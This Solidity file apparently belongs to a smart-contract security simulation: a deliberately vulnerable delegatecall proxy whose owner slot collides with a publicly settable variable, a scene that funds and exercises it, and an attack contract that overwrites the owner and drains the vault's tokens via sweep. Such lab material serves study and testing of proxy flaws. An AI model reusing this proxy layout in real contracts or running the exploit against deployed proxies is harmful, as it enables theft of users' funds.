// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Keeps its owner where the code behind it keeps a number that anybody may set.
contract NaiveProxy {
    address public owner;
    address public code;

    constructor(address code_, address owner_) {
        (code, owner) = (code_, owner_);
    }

    receive() external payable {}

    function sweep(IERC20 token, address to, uint256 amount) external {
        require(msg.sender == owner, "owner");
        token.transfer(to, amount);
    }

    fallback() external payable {
        address to = code;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

contract Preferences {
    uint256 public lastSetting;
    address private unused;
    mapping(address => uint256) public balanceOf;
    mapping(address => uint256) public settings;
    IERC20 public immutable asset;

    event Deposit(address indexed who, uint256 amount);
    event Withdraw(address indexed who, uint256 amount);

    constructor(IERC20 asset_) {
        asset = asset_;
    }

    function prefer(uint256 setting) external {
        settings[msg.sender] = setting;
    }

    function remember(uint256 setting) external {
        lastSetting = setting;
    }

    function deposit(uint256 amount) external {
        asset.transferFrom(msg.sender, address(this), amount);
        balanceOf[msg.sender] += amount;
        emit Deposit(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        asset.transfer(msg.sender, amount);
        emit Withdraw(msg.sender, amount);
    }
}

contract StorageCollisionScene is Scene {
    Token public usd;
    Preferences public vault;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        Preferences code = new Preferences(IERC20(address(usd)));
        vault = Preferences(payable(address(new NaiveProxy(address(code), address(this)))));
        usd.mint(address(vault), 2_200_000e18);
        _protect(address(vault));
        loot0 = IERC20(address(usd));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 1_000_000e18, address(vault));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 kind = (dice >> 200) % 4;
        uint256 held = vault.balanceOf(who);
        if (kind == 0) return (address(vault), 0, abi.encodeCall(Preferences.prefer, (dice % 8)));
        if (kind == 1 && held > 0) return (address(vault), 0, abi.encodeCall(Preferences.withdraw, (held)));
        return (address(vault), 0, abi.encodeCall(Preferences.deposit, (_amount(dice, 100e18, 20_000e18))));
    }
}

contract StorageCollisionAttack is Attack {
    Preferences private immutable vault;

    constructor(StorageCollisionScene scene) Attack(scene) {
        vault = scene.vault();
    }

    function _act(uint256, uint256 index, uint256 count) internal override {
        vault.remember(uint256(uint160(address(this))));
        uint256 bite = loot0.balanceOf(address(vault)) / (count - index);
        NaiveProxy(payable(address(vault))).sweep(loot0, address(this), bite);
    }
}
